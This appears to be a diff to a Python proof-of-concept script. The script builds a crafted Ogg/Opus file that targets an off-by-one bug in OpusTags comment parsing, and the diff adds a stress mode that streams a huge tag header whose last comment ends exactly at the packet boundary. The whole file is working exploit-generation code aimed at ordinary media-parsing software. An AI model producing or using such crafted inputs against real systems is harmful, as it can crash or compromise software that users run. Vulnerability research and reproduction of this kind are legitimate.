@@ -1,33 +1,17 @@
 #!/usr/bin/env python3
+import argparse
 import struct
+import sys
+from pathlib import Path
 
-POLY = 0x04C11DB7
-
-def ogg_crc(data: bytes) -> int:
-    crc = 0
-    for b in data:
-        crc ^= (b << 24) & 0xFFFFFFFF
-        for _ in range(8):
-            crc = ((crc << 1) ^ POLY) & 0xFFFFFFFF if (crc & 0x80000000) else ((crc << 1) & 0xFFFFFFFF)
-    return crc & 0xFFFFFFFF
+sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
+from poclib.ogg import OggWriter, build_page, lacing_values
 
 def ogg_page(payload: bytes, serial: int, seq: int, bos=False, eos=False, cont=False, granule=0) -> bytes:
-    assert len(payload) <= 255
+    # single-page packet; use OggWriter for packets that span pages
     header_type = (0x02 if bos else 0) | (0x04 if eos else 0) | (0x01 if cont else 0)
-    seg_table = bytes([1, len(payload)])
-    hdr = (
-        b"OggS" +
-        bytes([0, header_type]) +
-        struct.pack("<Q", granule) +
-        struct.pack("<I", serial) +
-        struct.pack("<I", seq) +
-        b"\x00\x00\x00\x00" +
-        seg_table
-    )
-    page = hdr + payload
-    crc = ogg_crc(page)
-    page = page[:22] + struct.pack("<I", crc) + page[26:]
-    return page
+    return build_page(header_type=header_type, granule=granule, serial=serial, seq=seq,
+                      lacing=lacing_values(len(payload)), payload=payload)
 
 def opushead() -> bytes:
     return (
@@ -40,26 +24,53 @@ def opushead() -> bytes:
         bytes([0])                   
     )
 
+def opustags_chunks(comments, count: int, vendor: bytes = b"", chunk_size: int = 1 << 16):
+    # OpusTags packet as a stream of ~chunk_size pieces; `comments` may be lazy
+    buf = bytearray(b"OpusTags" + struct.pack("<I", len(vendor)) + vendor + struct.pack("<I", count))
+    for c in comments:
+        buf += struct.pack("<I", len(c))
+        buf += c
+        if len(buf) >= chunk_size:
+            yield bytes(buf)
+            buf.clear()
+    if buf:
+        yield bytes(buf)
+
 def opustags_one_comment(comment: bytes) -> bytes:
-    vendor = b""
-    return (
-        b"OpusTags" +
-        struct.pack("<I", len(vendor)) + vendor +
-        struct.pack("<I", 1) +
-        struct.pack("<I", len(comment)) + comment
-    )
+    return b"".join(opustags_chunks([comment], 1))
+
+def write_stress(path: str, serial: int, n_comments: int, comment_size: int) -> int:
+    # Huge OpusTags header streamed across as many pages as it needs; the
+    # last comment still ends exactly at the packet end (t_size == size).
+    pad = max(0, comment_size - len("C0000000000="))
+    comments = (b"C%010d=" % i + b"A" * pad for i in range(n_comments))
+    with OggWriter(path, serial) as w:
+        w.packet(opushead(), 0, flush=True)
+        w.packet(opustags_chunks(comments, n_comments), 0, flush=True)
+    return w.bytes_written
 
 def main():
+    ap = argparse.ArgumentParser()
+    ap.add_argument("--out", default="poc_offbyone.ogg")
+    ap.add_argument("--comments", type=int, default=0, help="stress mode: number of OpusTags comments")
+    ap.add_argument("--comment-size", type=int, default=64, help="bytes per comment in stress mode")
+    args = ap.parse_args()
+
     serial = 0x1337BEEF
+    if args.comments:
+        n = write_stress(args.out, serial, args.comments, args.comment_size)
+        print(f"Wrote {args.out} ({n} bytes, {args.comments} comments)")
+        return
+
     comment = b"ARTIST=A"
 
     p1 = ogg_page(opushead(), serial, 0, bos=True)
     p2 = ogg_page(opustags_one_comment(comment), serial, 1)
 
-    with open("poc_offbyone.ogg", "wb") as f:
+    with open(args.out, "wb") as f:
         f.write(p1)
         f.write(p2)
-    print("Wrote poc_offbyone.ogg")
+    print(f"Wrote {args.out}")
 
 if __name__ == "__main__":
     main()